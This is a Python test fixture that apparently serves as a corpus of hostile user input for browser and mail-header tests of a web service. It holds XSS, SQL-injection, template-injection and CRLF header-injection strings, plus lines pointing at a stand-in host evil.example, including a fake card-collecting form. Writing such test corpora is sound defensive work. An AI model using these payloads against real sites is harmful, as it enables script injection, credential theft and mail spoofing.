"""A corpus of hostile text: what a customer (or a compromised staff account) might type.

Every payload that could run script does ``window.__pwned=1`` or ``alert(...)``, so the browser
test can tell whether anything ran.  Each stays at most 1000 characters (the longest dispute
reason) and keeps something visible after the service drops control characters, so each one
is a valid message and a valid reason.

``PAYLOADS`` maps a short name to the text.  ``expected_text(p)`` is what a person should see:
the text as the service stores it (line breaks normalised, control characters dropped, outer
white space trimmed), white space folded as a page shows it.
"""

from __future__ import annotations

import unicodedata

PWN = "window.__pwned=1"

PAYLOADS: dict[str, str] = {
    # -- script tags and their disguises
    "script tag": f"<script>{PWN}</script>",
    "script tag upper": f"<SCRIPT>{PWN}</SCRIPT>",
    "script with src": '<script src="https://evil.example/x.js"></script>',
    "nested script": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "double open": f"<<script>script>{PWN}//<</script>/script>",
    "script in svg": f"<svg><script>{PWN}</script></svg>",
    "script in comment": f"<!--<script>{PWN}</script>-->",
    "cdata": f"<![CDATA[<script>{PWN}</script>]]>",
    "nul inside tag": f"<scr\x00ipt>{PWN}</scr\x00ipt>",
    "json breakout": '{"a": "</script><script>' + PWN + '</script>"}',
    # -- event handlers
    "img onerror": f'<img src=x onerror="{PWN}">',
    "img onerror unquoted": f"<img src=x onerror={PWN}>",
    "svg onload": f"<svg onload={PWN}>",
    "body onload": f"<body onload={PWN}>",
    "details ontoggle": f"<details open ontoggle={PWN}>x</details>",
    "input autofocus": f"<input autofocus onfocus={PWN}>",
    "video source": f"<video><source onerror={PWN}></video>",
    "marquee": f"<marquee onstart={PWN}>hi</marquee>",
    "custom tag": f"<x onmouseover={PWN}>hover me</x>",
    "link with onclick": f'<a href="https://ok.example/" onclick="{PWN}">ok</a>',
    # -- breaking out of attributes and elements
    "attribute breakout": f'"><img src=x onerror={PWN}>',
    "single quote breakout": f"'><svg onload={PWN}>",
    "textarea breakout": f"</textarea><script>{PWN}</script>",
    "title breakout": f"</title><script>{PWN}</script>",
    "noscript trick": f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    "url with quote": f'https://evil.example/"onmouseover="{PWN}" x="',
    "url with angle": f"http://x.example/<script>{PWN}</script>",
    "url in attribute": f"https://ok.example/?q=\"'><script>{PWN}</script>",
    # -- dangerous links
    "javascript link": f'<a href="javascript:{PWN}">click</a>',
    "javascript bare": f"javascript:{PWN}",
    "javascript entity": f"javascript&colon;{PWN}",
    "javascript tab": f"jav&#x09;ascript:{PWN}",
    "javascript mixed case": f"JaVaScRiPt:{PWN}",
    "data url": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "data link": f'<a href="data:text/html,<script>{PWN}</script>">x</a>',
    "vbscript": "vbscript:msgbox(1)",
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    "object data": f'<object data="javascript:{PWN}"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base href": '<base href="https://evil.example/">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "markdown link": f"[click me](javascript:{PWN})",
    # -- broken markup
    "unclosed tags": "<div><b><i><table><tr><td>unclosed",
    "closing tags": "</div></section></ol></form></main></body></html>",
    "broken img": '<img src="x',
    "lone brackets": "< > & \" ' <<>> &&",
    "pre-escaped": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
    "doctype and php": "<!DOCTYPE html><?php echo 1; ?> ]]> -->",
    "math tag": f"<math><mtext></p><script>{PWN}</script></mtext></math>",
    # -- template syntax
    "jinja expression": "{{ 7*7 }}",
    "jinja statement": "{% for x in range(3) %}X{% endfor %}",
    "jinja config": "{{ config }} {{ config.SECRET_KEY }}",
    "jinja globals": "{{ request.application.__globals__.__builtins__ }}",
    "jinja comment": "{# hidden #} visible",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    # -- unicode direction tricks and invisible characters
    "rtl override": "invoice\u202egpj.exe",
    "rtl override pair": "\u202eevil\u202c and \u202dlater\u202c",
    "isolates": "\u2066left\u2069 \u2067right\u2069 \u2068first\u2069",
    "zero width": "zero\u200bwidth\u200cjoin\u200dnon\ufeffbreak",
    "line separator": "line\u2028separator\u2029paragraph",
    "combining zalgo": "Z\u0334\u0321\u0322\u031ba\u0337l\u0338g\u0336o\u0335",
    "rtl text": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 hello",
    # -- very long
    "long word": "A" * 990,
    "long url": "https://long.example/" + "a" * 900,
    # -- NUL and control characters
    "nul bytes": "before\x00after\x00",
    "control chars": "bell\x07 escape\x1b[31mred\x1b[0m backspace\x08",
    # -- SQL-ish
    "sql drop": "'; DROP TABLE order_messages_messages; --",
    "sql or": "' OR '1'='1",
    "sql like": "%' OR 1=1 -- _ \\",
    "sql union": "1 UNION SELECT password_hash FROM users --",
    # -- header injection
    "crlf headers": "Subject: hi\r\nBcc: victim@example.com\r\n\r\nbody",
    "crlf script": "line one\r\n\r\n<script>" + PWN + "</script>",
    "bare cr": "one\rtwo\rthree",
    # -- emoji and the like
    "emoji": "💥🔥👍🏽 family 👨\u200d👩\u200d👧 flag 🇺🇦",
    "astral": "𝕳𝖊𝖑𝖑𝖔 𝟕*𝟕 𐍈",
    "alert call": "alert(1); confirm(2); prompt(3)",
}


def stored_text(payload: str) -> str:
    """The payload as the service stores it (see ``services.common.clean_text``)."""
    text = payload.replace("\r\n", "\n").replace("\r", "\n")
    text = "".join(ch for ch in text if ch in "\n\t" or unicodedata.category(ch) != "Cc")
    return text.strip()


def expected_text(payload: str) -> str:
    """What a person reads on a page: the stored text, white space folded."""
    return " ".join(stored_text(payload).split())


assert len(PAYLOADS) >= 50
assert all(len(p) <= 1000 and stored_text(p) for p in PAYLOADS.values())


#: Display names (and order numbers) that try to become a header line of their own: encoded
#: words that decode to CR/LF + "Bcc:" (Python's email package decodes them when it re-folds a
#: long header), raw line breaks of every kind, control characters.  ``test_mail_headers.py``
#: sends each through a real SMTP server and reads the mail back.
HEADER_PAYLOADS: dict[str, str] = {
    "encoded word q": "=?utf-8?q?Carol=0D=0ABcc=3A_victim=40example.com?=",
    "encoded word Q upper": "=?UTF-8?Q?Carol=0D=0ACc=3A_victim=40example.com?=",
    "encoded word b": "=?utf-8?b?Q2Fyb2wNCkJjYzogdmljdGltQGV4YW1wbGUuY29t?=",
    "encoded word latin1": "=?iso-8859-1?q?Carol=0ABcc=3A_victim=40example.com?=",
    "encoded word lf only": "=?utf-8?q?Carol=0ABcc=3A_victim=40example.com?=",
    "encoded words split": "=?utf-8?q?Carol=0D=0A?= =?utf-8?q?Bcc=3A_victim=40example.com?=",
    "encoded word after text": "Carol Customer =?utf-8?q?=0D=0ABcc=3A_victim=40example.com?=",
    "encoded word non-ascii": "Zoë =?utf-8?q?=0D=0ABcc=3A_victim=40example.com?= Ünal",
    "encoded word body split": "=?utf-8?q?x=0D=0A=0D=0A<b>body</b>?=",
    "encoded word with line break inside": "=\r\n?utf-8?q?Carol=0D=0ABcc=3A_v=40x.test?=",
    "encoded word nested": "=?utf-8?q?=3D=3Futf-8=3Fq=3F=0D=0ABcc=3A_v=40x.test=3F=3D?=",
    "encoded word long": "A" * 150 + " =?utf-8?q?=0D=0ABcc=3A_victim=40example.com?=",
    "crlf bcc": "Carol\r\nBcc: victim@example.com",
    "lf cc": "Carol\nCc: victim@example.com",
    "cr to": "Carol\rTo: victim@example.com",
    "blank line": "Carol\r\n\r\nInjected body",
    "line separator": "Carol\u2028Bcc: victim@example.com",
    "paragraph separator": "Carol\u2029Bcc: victim@example.com",
    "next line": "Carol\u0085Bcc: victim@example.com",
    "vertical tab and form feed": "Carol\x0bBcc: v@x.test\x0cCc: w@x.test",
    "nul": "Carol\x00Bcc: victim@example.com",
    "folded continuation": "Carol\r\n Bcc: victim@example.com",
    "rtl override": "Carol \u202eBcc: victim@example.com",
    "header lookalike": "Subject: hi To: victim@example.com",
    "long with crlf": "B" * 240 + "\r\nBcc: victim@example.com",
}
